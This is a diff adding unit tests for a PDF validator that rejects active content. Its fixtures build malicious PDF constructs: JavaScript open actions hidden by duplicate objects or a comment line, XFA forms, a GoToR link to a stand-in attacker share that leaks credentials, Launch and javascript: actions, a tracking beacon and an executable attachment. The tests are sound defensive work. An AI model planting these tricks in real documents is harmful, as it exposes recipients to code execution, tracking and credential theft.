@@ -1,6 +1,6 @@
-import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
+import { PDFDocument, PDFHexString, PDFName, PDFString, type PDFDict } from 'pdf-lib';
 import { describe, expect, it } from 'vitest';
-import { activeContentKinds, pdfWithCatalog } from '#test/support/pdfs.ts';
+import { activeContentKinds, catalogWith, pdfWithCatalog, pdfWithHiddenOpenAction, plainPdf, withUpdate } from '#test/support/pdfs.ts';
 import { checkPdf } from './pdf-check';
 
 async function pdfWithPages(pages: number, useObjectStreams = true): Promise<Uint8Array> {
@@ -50,5 +50,120 @@ describe('checkPdf', () => {
     for (const addition of ['/OpenAction [3 0 R /Fit]', '/OpenAction << /S /GoTo /D [3 0 R /Fit] >>', '/URI << /Base (https://example.test/) >>']) {
       expect(await checkPdf(await pdfWithCatalog(addition)), addition).toEqual({ ok: true, pages: 1 });
     }
+  });
+
+  describe('judged as viewers resolve it too (issue 27 §3)', () => {
+    const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
+
+    it('refuses an object defined twice whose cross-referenced copy holds a script, whichever copy comes first', async () => {
+      const { text, catalog, catalogBody, page } = await plainPdf();
+      const opened = { number: catalog, body: catalogWith(catalogBody, '/OpenAction 9 0 R') };
+      // The xref names the script; a later copy of 9 that nothing references shadows it in a file-order parse.
+      const earlierScript = withUpdate(text, [opened, { number: 9, body: script }], `9 0 obj\n<< /S /GoTo /D [${page} 0 R /Fit] >>\nendobj\n`);
+      // The reverse: an unreferenced innocent copy first, the referenced script after it.
+      const laterScript = withUpdate(`${text}9 0 obj\n<< /S /GoTo /D [${page} 0 R /Fit] >>\nendobj\n`, [opened, { number: 9, body: script }]);
+      for (const bytes of [earlierScript, laterScript]) expect(await checkPdf(bytes)).toEqual({ ok: false, reason: 'activeContent' });
+    });
+
+    it('refuses a script even in a copy no cross-reference section names (every definition is read)', async () => {
+      const { text, catalog, catalogBody, page } = await plainPdf();
+      const bytes = withUpdate(`${text}9 0 obj\n${script}\nendobj\n`, [
+        { number: catalog, body: catalogWith(catalogBody, '/OpenAction 9 0 R') },
+        { number: 9, body: `<< /S /GoTo /D [${page} 0 R /Fit] >>` },
+      ]);
+      expect(await checkPdf(bytes)).toEqual({ ok: false, reason: 'activeContent' });
+    });
+
+    it('refuses an incremental update that adds a JavaScript /OpenAction where a file-order parse does not look', async () => {
+      // The action sits at the end of a comment line (pdfWithHiddenOpenAction): only the update's xref leads to it.
+      const bytes = await pdfWithHiddenOpenAction();
+      expect(bytes.toString('latin1')).toMatch(/% a comment, then 9 0 obj\n<< \/S \/JavaScript/);
+      expect(await checkPdf(bytes)).toEqual({ ok: false, reason: 'activeContent' });
+    });
+
+    it('refuses an XFA form', async () => {
+      const { text, catalog, catalogBody } = await plainPdf();
+      const xdp = '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"/></xdp:xdp>';
+      const bytes = withUpdate(text, [
+        { number: catalog, body: catalogWith(catalogBody, '/AcroForm << /Fields [] /XFA 9 0 R >>') },
+        { number: 9, body: `<< /Length ${xdp.length} >>\nstream\n${xdp}\nendstream` },
+      ]);
+      expect(await checkPdf(bytes)).toEqual({ ok: false, reason: 'activeContent' });
+    });
+
+    /** A one-page PDF whose page carries a link annotation with `link` (its /A, /Dest…). */
+    async function pdfWithLinks(...links: Record<string, unknown>[]): Promise<Uint8Array> {
+      const document = await PDFDocument.create();
+      const page = document.addPage();
+      const annotations = links.map((link) =>
+        document.context.register(
+          document.context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [72, 700, 300, 720], Border: [0, 0, 0], ...link } as never),
+        ),
+      );
+      page.node.set(PDFName.of('Annots'), document.context.obj(annotations));
+      return document.save();
+    }
+    const action = (fields: Record<string, unknown>) => ({ A: fields });
+
+    it("refuses a GoToR link (a remote file on a share: the viewer's network credentials leak)", async () => {
+      const bytes = await pdfWithLinks(action({ S: 'GoToR', F: PDFString.of('\\\\files.attacker.test\\share\\offer.pdf'), D: [0, 'Fit'] }));
+      expect(await checkPdf(bytes)).toEqual({ ok: false, reason: 'activeContent' });
+    });
+
+    it('refuses an annotation whose /A runs something: a javascript: address, a Launch, a Named menu item', async () => {
+      for (const runs of [
+        { S: 'URI', URI: PDFString.of('javascript:app.alert(1)') },
+        { S: 'Launch', F: PDFString.of('calc.exe') },
+        { S: 'Named', N: 'SaveAs' },
+      ]) {
+        expect(await checkPdf(await pdfWithLinks(action(runs))), String(runs.S)).toEqual({ ok: false, reason: 'activeContent' });
+      }
+    });
+
+    it('refuses a form field whose /AA opens an address when the pointer enters it', async () => {
+      const document = await PDFDocument.create();
+      const page = document.addPage();
+      const field = document.getForm().createTextField('name');
+      field.addToPage(page);
+      const beacon = document.context.obj({ S: 'URI', URI: PDFString.of('https://tracker.test/opened') });
+      (field.acroField.dict as PDFDict).set(PDFName.of('AA'), document.context.obj({ E: beacon }));
+      expect(await checkPdf(await document.save())).toEqual({ ok: false, reason: 'activeContent' });
+    });
+
+    it('refuses a file attachment annotation (a file the viewer offers to open)', async () => {
+      const document = await PDFDocument.create();
+      const page = document.addPage();
+      const fileSpec = document.context.obj({ Type: 'Filespec', F: PDFString.of('payload.exe'), UF: PDFHexString.fromText('payload.exe') });
+      const attachment = document.context.obj({
+        Type: 'Annot',
+        Subtype: 'FileAttachment',
+        Rect: [72, 700, 90, 720],
+        FS: fileSpec,
+        Name: 'Paperclip',
+      });
+      page.node.set(PDFName.of('Annots'), document.context.obj([document.context.register(attachment)]));
+      expect(await checkPdf(await document.save())).toEqual({ ok: false, reason: 'activeContent' });
+    });
+
+    it('accepts what ordinary contracts carry: web and mail links, internal jumps, a form field without actions', async () => {
+      const document = await PDFDocument.create();
+      const first = document.addPage();
+      const second = document.addPage();
+      const links = [
+        { A: { S: 'URI', URI: PDFString.of('https://www.example.test/benefits') } },
+        { A: { S: 'URI', URI: PDFString.of('mailto:hr@example.test') } },
+        { A: { S: 'GoTo', D: [second.ref, 'Fit'] } },
+        { Dest: [second.ref, 'XYZ', 0, 800, 0] },
+      ].map((link) =>
+        document.context.register(
+          document.context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [72, 700, 300, 720], Border: [0, 0, 0], ...link } as never),
+        ),
+      );
+      first.node.set(PDFName.of('Annots'), document.context.obj(links));
+      document.getForm().createTextField('signature.name').addToPage(second);
+      document.catalog.set(PDFName.of('OpenAction'), document.context.obj([first.ref, PDFName.of('Fit')]));
+      expect(await checkPdf(await document.save())).toEqual({ ok: true, pages: 2 });
+      expect(await checkPdf(await document.save({ useObjectStreams: false }))).toEqual({ ok: true, pages: 2 });
+    });
   });
 });
